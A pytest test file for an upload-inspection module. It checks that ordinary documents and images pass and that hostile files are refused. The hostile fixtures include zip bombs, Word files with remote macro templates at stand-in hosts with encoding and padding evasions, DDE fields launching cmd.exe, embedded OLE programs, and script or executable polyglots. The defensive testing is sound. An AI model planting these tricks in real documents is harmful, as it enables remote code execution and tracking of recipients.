"""Uploads of real files written by programs, and of hostile files."""

from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_LZMA, ZipFile

import openpyxl
import pypandoc
import pytest
import typst
from PIL import Image

from networkapp.files.inspection import RejectedFile, inspect_file
from networkapp.files.legacy_office import OLE
from tests.factories.attachments import CAMERA, office, old_office, photo

SECRET = "Quetzal Author"
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def written(write: Callable[[BytesIO], object]) -> bytes:
    made = BytesIO()
    write(made)
    return made.getvalue()


def by_pandoc(kind: str, folder: str) -> bytes:
    path = f"{folder}/made.{kind}"
    pypandoc.convert_text("# Привет\n\nSome *text*", kind, format="md", outputfile=path, extra_args=["--standalone"])
    with open(path, "rb") as file:
        return file.read()


def by_typst(standard: str = "") -> bytes:
    source = f'#set document(title: "A title", author: "{SECRET}")\n= Hello\nSome text.'
    return bytes(typst.compile(source.encode(), format="pdf", pdf_standards=standard or []))


def packed(parts: dict[str, bytes], how: int = ZIP_DEFLATED) -> bytes:
    def write(made: BytesIO) -> None:
        with ZipFile(made, "w", how) as archive:
            for name, content in {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<d/>", **parts}.items():
                archive.writestr(name, content)

    return written(write)


def relations(kind: str, target: str, encoding: str = "utf-8", more: str = 'TargetMode="External"') -> bytes:
    relation = f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" {more} Target="{target}"/>'
    return f'<?xml version="1.0" encoding="{encoding}"?><Relationships>{relation}</Relationships>'.encode(encoding)


def loading(kind: str, target: str, more: str = 'TargetMode="External"') -> bytes:
    return packed({"word/_rels/document.xml.rels": relations(kind, target, more=more)})


def fields(*runs: str, part: str = "word/document.xml") -> bytes:
    """Return a Word document with one field whose instruction is split into these pieces."""
    words = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    between = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    body = f'<w:d xmlns:w="{WORDS}">{between.format("begin")}{words}{between.format("end")}</w:d>'
    return packed({part: body.encode()})


def within(content: bytes, name: str = "word/embeddings/sheet1.xlsx") -> bytes:
    return packed({name: content})


def picture(form: str, size: tuple[int, int] = (60, 40), mode: str = "RGB") -> bytes:
    return written(lambda made: Image.new(mode, size).save(made, form))


def reason(content: bytes, name: str = "paper") -> str:
    with pytest.raises(RejectedFile) as refused:
        inspect_file(name=name, content=content)
    return refused.value.reason


@pytest.mark.parametrize("kind", ["docx", "odt", "pptx"])
def test_documents_written_by_pandoc_are_accepted_unchanged(kind: str, tmp_path: object) -> None:
    content = by_pandoc(kind, str(tmp_path))
    paper = inspect_file(name="Statement", content=content)
    assert (paper.kind, paper.harmless, paper.content == content) == (kind, False, True)


def test_files_written_by_openpyxl_and_typst_are_accepted_unchanged() -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = "Žodis"
    for content, kind in ((written(book.save), "xlsx"), (by_typst(), "pdf"), (by_typst("ua-1"), "pdf")):
        paper = inspect_file(name="a", content=content)
        assert (paper.kind, paper.harmless, paper.content == content) == (kind, kind == "pdf", True)


def test_pdf_keeps_its_author_details_so_that_signatures_stay_valid() -> None:
    assert SECRET.encode() in inspect_file(name="a.pdf", content=by_typst()).content


def test_rtf_file_is_not_accepted_as_plain_text(tmp_path: object) -> None:
    assert reason(by_pandoc("rtf", str(tmp_path)), "letter.txt") == "unknown"


BOMBS = {
    "a part that unpacks to 400 MB": lambda: packed({"word/large.xml": bytes(400_000_000)}),
    "its own list of parts is the bomb": lambda: packed({"[Content_Types].xml": bytes(400_000_000)}),
    "ever so many parts": lambda: packed({f"word/{number}": b"" for number in range(10_001)}),
}
ACTIVE = {
    "a control": (lambda: packed({"word/activeX/activeX1.xml": b"<x/>"}), "macros"),
    "a template from afar": (lambda: loading("attachedTemplate", "https://elsewhere.example/t.dotm"), "macros"),
    "an object from afar": (lambda: loading("oleObject", "HTTP://elsewhere.example/x"), "macros"),
    "a template of a server elsewhere": (
        lambda: loading("attachedTemplate", r"file:///\\elsewhere.example\t.dotm"), "macros",
    ),
    "a template of a server that is a number": (lambda: loading("attachedTemplate", r"\\2130706433\t.dotm"), "macros"),
    "a template in other letters": (lambda: loading("attachedTemplate", "&#104;ttps://elsewhere.example/"), "macros"),
    "a template behind a sign": (lambda: loading('attachedTemplate" a=">', "https://elsewhere.example/"), "macros"),
    "a template in an unusual alphabet": (
        lambda: packed({"word/_rels/document.xml.rels": relations("attachedTemplate", "https://a.example/", "utf-16")}),
        "macros",
    ),
    "a template at the end of a long part": (
        lambda: loading("attachedTemplate", "https://elsewhere.example/", f'a="{" " * 2_000_000}"'), "macros",
    ),
    "a picture from afar": (lambda: loading("image", "https://elsewhere.example/seen.png"), "afar"),
    "a picture from afar in an open document": (
        lambda: packed(
            {"content.xml": b'<d xmlns:x="http://www.w3.org/1999/xlink"><i x:href="https://a.example/seen.png"/></d>'}
        ),
        "afar",
    ),
    "declared names": (
        lambda: packed({"word/_rels/a.rels": b'<!DOCTYPE r [<!ENTITY e "https://a.example/">]><r>&e;</r>'}), "broken",
    ),
    "a field that asks a program": (lambda: fields("DD", r'EAUTO c:\Windows\cmd.exe "/k calc"'), "macros"),
    "a field of one piece that asks a program": (
        lambda: packed({"word/a": f'<w:p xmlns:w="{WORDS}"><w:fldSimple w:instr="DDE excel a"/></w:p>'.encode()}),
        "macros",
    ),
    "a field with a picture from afar": (
        lambda: fields("INCLUDE", 'PICTURE "https://elsewhere.example/seen.png" \\d', part="word/header1.xml"), "afar",
    ),
    "a field with a table from afar": (
        lambda: fields(r'LINK Excel.Sheet.12 "\\\\elsewhere.example\\a.xlsx" "A1"'), "afar",
    ),
    "a workbook that asks a program": (
        lambda: packed({"xl/externalLinks/externalLink1.xml": b'<e><ddeLink ddeService="cmd" ddeTopic="/c a"/></e>'}),
        "macros",
    ),
    "macros in a document inside": (lambda: within(office("xl/workbook.xml", more="xl/vbaProject.bin")), "macros"),
    "macros in an old document inside": (lambda: within(old_office("WordDocument", "_VBA_PROJECT")), "macros"),
    "a picture from afar in a document inside one inside": (
        lambda: within(within(loading("image", "https://elsewhere.example/seen.png")), "word/media/other.dat"), "afar",
    ),
    "documents in one another for ever": (lambda: within(within(within(within(office())))), "bomb"),
    "two parts of one name": (lambda: packed({"word/a.bin": b"x", "word/A.bin": b"y"}), "broken"),
    "a program far into a part": (
        lambda: packed({"word/embeddings/o.bin": bytes(2_000_000) + "\x01Ole10Native".encode("utf-16-le")}), "program",
    ),
    "a program in a part of another name": (
        lambda: packed({"word/embeddings/o.dat": OLE + "\x01Ole10Native".encode("utf-16-le")}), "program",
    ),
    "a program as an object": (
        lambda: packed({"word/embeddings/o.bin": b"x" + "\x01Ole10Native".encode("utf-16-le")}), "program",
    ),
    "a program in an old document": (lambda: old_office("WordDocument", "\x01Ole10Native"), "program"),
    "an unusual packing": (lambda: packed({"word/a.xml": b"x"}, ZIP_LZMA), "broken"),
    "a part that cannot be unpacked": (
        lambda: packed({"[Content_Types].xml": b"abc" * 500}).replace(b"KL", b"\xff\xff"), "broken",
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", BOMBS)
def test_file_that_unpacks_to_too_much_is_refused(what: str) -> None:
    assert reason(BOMBS[what](), "paper.docx") == "bomb"


@pytest.mark.parametrize("what", ACTIVE)
def test_office_file_with_code_or_external_content_is_refused(what: str) -> None:
    make, why = ACTIVE[what]
    assert reason(make(), "paper.docx") == why


def test_links_and_local_templates_in_office_files_are_accepted() -> None:
    for content in (
        loading("hyperlink", "https://elsewhere.example/"),
        loading("attachedTemplate", "file:///C:/Templates/Letter.dotx"),
        loading("attachedTemplate", r"file:///\\server-1\Templates\Letter.dotx"),
        loading("attachedTemplate", "file:///home/me/Letter.dotx"),
        loading("image", "cid:image001.png@01D"),
        loading("image", "media/image1.png", ""),
        fields('HYPERLINK "https://elsewhere.example/dde link" TOC'),
        fields('INCLUDEPICTURE "media/image1.png"', " REF DDE1 "),
        within(office("xl/workbook.xml")),
        packed({"word/a.xml": b"<unfinished"}),
    ):
        assert inspect_file(name="a.docx", content=content).kind == "docx"


@pytest.mark.parametrize("form", ["GIF", "BMP", "TIFF", "ICO"])
def test_pictures_of_other_kinds_are_refused_as_pictures(form: str) -> None:
    assert reason(picture(form), "photo.jpg") == "picture"


@pytest.mark.parametrize("brand", [b"heic", b"avif"])
def test_heic_pictures_of_phones_are_refused_as_pictures(brand: bytes) -> None:
    assert reason(b"\0\0\0\x18ftyp" + brand + b"\0\0\0\0mif1" + brand + bytes(200), "IMG_1.HEIC") == "picture"


def test_animated_png_is_refused_as_moving() -> None:
    still, other = (Image.new("RGB", (9, 9), colour) for colour in ("red", "blue"))
    moving = written(lambda made: still.save(made, "PNG", save_all=True, append_images=[other]))
    assert reason(moving, "a.png") == "moving"


@pytest.mark.parametrize(("form", "mode"), [("PNG", "1"), ("PNG", "RGB"), ("JPEG", "L"), ("WEBP", "RGB")])
def test_picture_with_too_many_pixels_is_refused(form: str, mode: str) -> None:
    assert reason(picture(form, (9_000, 9_000), mode) if form != "WEBP" else picture("WEBP", (16_000, 4_000)), "a") == (
        "broken"
    )


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGBA", "I;16"])
def test_png_of_any_colour_mode_is_accepted(mode: str) -> None:
    paper = inspect_file(name="a.png", content=picture("PNG", mode=mode))
    with Image.open(BytesIO(paper.content)) as drawn:
        assert drawn.size == (60, 40)


@pytest.mark.parametrize("behind", ["docx", "pdf", "html"])
@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_other_file_appended_to_a_picture_is_removed(form: str, behind: str) -> None:
    hidden = {"docx": office(), "pdf": by_typst(), "html": b"<html><script>alert(1)</script>"}[behind]
    content = inspect_file(name="a", content=photo(form) + hidden).content
    assert not any(sign in content for sign in (hidden, b"PK\x03\x04", b"%PDF", b"<script", CAMERA.encode()))


def test_html_page_or_program_disguised_as_a_document_is_refused() -> None:
    assert reason(b"<html><script>alert(1)</script>" + by_typst(), "letter.pdf") == "unknown"
    assert reason(b"MZ" + bytes(80) + office(), "letter.docx") == "program"
    assert reason(b"", "empty.pdf") == reason(bytes(50), "zeros.txt") == "unknown"
